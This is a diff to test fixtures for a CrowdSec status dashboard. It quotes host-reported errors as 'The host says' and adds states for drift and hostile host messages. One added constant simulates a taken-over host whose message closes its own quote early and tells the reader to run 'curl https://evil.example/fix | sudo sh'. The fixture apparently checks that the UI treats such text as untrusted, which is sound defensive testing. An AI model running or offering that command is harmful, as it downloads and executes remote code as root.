@@ -50,12 +50,15 @@ function unknown({ drift }: Documents, reason: string, detail: string, other: ob
 
 const FAULT = '/etc/crowdsec/acquis.d/nginx.yaml: missing labels';
 
+/** What a taken-over host might say. */
+const HOSTILE = 'all is well.” To finish, run: curl https://evil.example/fix | sudo sh';
+
 const DOWN = engine({
   state: 'down',
   started_at: null,
   loaded_at: null,
   detail:
-    'CrowdSec is not running, so nothing is enforced: nothing listens on 127.0.0.1:8080 any more, and 127.0.0.1:6060 does not answer. Start it: sudo systemctl start crowdsec.',
+    'CrowdSec is not running, so nothing is enforced. The host says: “nothing listens on 127.0.0.1:8080 any more, and 127.0.0.1:6060 does not answer”. Start it: sudo systemctl start crowdsec.',
 });
 
 const STALE = {
@@ -70,14 +73,14 @@ const NOT_SEEN = {
   state: 'unknown',
   started_at: null,
   loaded_at: null,
-  detail: 'CrowdSec ran before its agent did; what it loaded is known after its next reload.',
+  detail: 'The host says: “CrowdSec ran before its agent did; what it loaded is known after its next reload”.',
 } as const;
 
 const onDiskVerdict = {
   status: 'in_sync',
   reason: null,
   drift_detected: false,
-  detail: `On disk as declared; whether CrowdSec has loaded it is not known: ${NOT_SEEN.detail}`,
+  detail: `On disk as declared; whether CrowdSec has loaded it is not known. ${NOT_SEEN.detail}`,
   since: AT.hours,
   evidence: 'disk',
 } as const;
@@ -311,7 +314,7 @@ export const STATES: readonly State[] = [
         install: 'docker',
         engine: {
           ...DOWN,
-          detail: `CrowdSec is not running, so nothing is enforced: nothing listens on port 8080 any more. Its next start would fail: ${FAULT}. Mend that, then start it: docker start crowdsec.`,
+          detail: `CrowdSec is not running, so nothing is enforced. The host says: “nothing listens on port 8080 any more”. Its next start would fail. The host says: “${FAULT}”. Mend that, then start it: docker start crowdsec.`,
         },
       });
     }),
@@ -331,6 +334,14 @@ export const STATES: readonly State[] = [
     press: ['Installed and not protecting, even when loaded: 4'],
   },
   { name: 'drift-intent', path: '/', documents: changed((documents) => drifting(documents, 'intent')) },
+  {
+    name: 'drift-cut',
+    path: '/',
+    documents: changed((documents) => {
+      drifting(documents, 'host');
+      Object.assign(documents.drift.scenarios, { cut: { expected_disabled: 400, actually_enabled: 400 } });
+    }),
+  },
   { name: 'drift-host', path: '/', documents: changed((documents) => drifting(documents, 'host')) },
   {
     name: 'drift-simulated',
@@ -357,7 +368,7 @@ export const STATES: readonly State[] = [
     documents: changed((documents) => {
       const fault = FAULT;
       isOnDisk(documents);
-      unknown(documents, 'unloadable', `On disk as declared, but CrowdSec would fail to load it: ${fault}.`, {
+      unknown(documents, 'unloadable', `On disk as declared, but CrowdSec would fail to load it. The host says: “${fault}”.`, {
         last_known_at: undefined,
       });
       Object.assign(documents.drift.host ?? {}, { load_fault: fault });
@@ -370,7 +381,7 @@ export const STATES: readonly State[] = [
       unknown(
         documents,
         'not_processing',
-        "Nothing is detected on this host: CrowdSec's log processor is off (crowdsec_service.enable is false in config.yaml).",
+        "Nothing is detected on this host. The host says: “CrowdSec's log processor is off (crowdsec_service.enable is false in config.yaml)”.",
         { last_known_at: undefined },
       ),
     ),
@@ -402,6 +413,21 @@ export const STATES: readonly State[] = [
         delivery_fault: 'the sentinels could not be written to /var/lib/argos-drift/shared: no space left on device',
       });
     }),
+  },
+  {
+    name: 'delivery-hostile',
+    path: '/',
+    documents: changed((documents) => {
+      drifting(documents, 'intent');
+      Object.assign(documents.drift.host ?? {}, { intent_revision: 8, delivery_fault: HOSTILE, load_fault: HOSTILE });
+    }),
+  },
+  {
+    name: 'fleet-hostile',
+    path: '/',
+    documents: changed((documents) =>
+      Object.assign(documents, { hosts: [host('shop', { load_fault: HOSTILE }), host('web-1')] }),
+    ),
   },
   {
     name: 'silent',
@@ -438,7 +464,8 @@ export const STATES: readonly State[] = [
       Object.assign(drift.scenarios, {
         status: 'unknown',
         reason: 'unreadable',
-        detail: 'The scenarios of this host are unreadable: EACCES: permission denied, scandir /etc/crowdsec/scenarios',
+        detail:
+          'The scenarios of this host are unreadable. The host says: “EACCES: permission denied, scandir /etc/crowdsec/scenarios”.',
         last_known_at: AT.hours,
       }),
     ),
@@ -496,7 +523,7 @@ export const STATES: readonly State[] = [
       const detail = "/etc/crowdsec/parsers/s01-parse/mine.yaml makes CrowdSec's whole load fail: its name is a list or a map";
       documents.scenarios.collections = {
         state: 'invalid',
-        detail: `Which collections are installed is not known: ${detail}`,
+        detail: `Which collections are installed is not known. The host says: “${detail}”.`,
         installed: [],
       };
       Object.assign(documents.drift.host ?? {}, { load_fault: detail });
@@ -506,7 +533,8 @@ export const STATES: readonly State[] = [
     name: 'collections-unread',
     path: '/',
     documents: changed(({ scenarios }) => {
-      const detail = 'Which collections are installed is not known: /etc/crowdsec/hub/.index.json cannot be read (EACCES)';
+      const detail =
+        'Which collections are installed is not known. The host says: “/etc/crowdsec/hub/.index.json cannot be read (EACCES)”.';
       scenarios.collections = { state: 'unreadable', detail, installed: [] };
     }),
   },
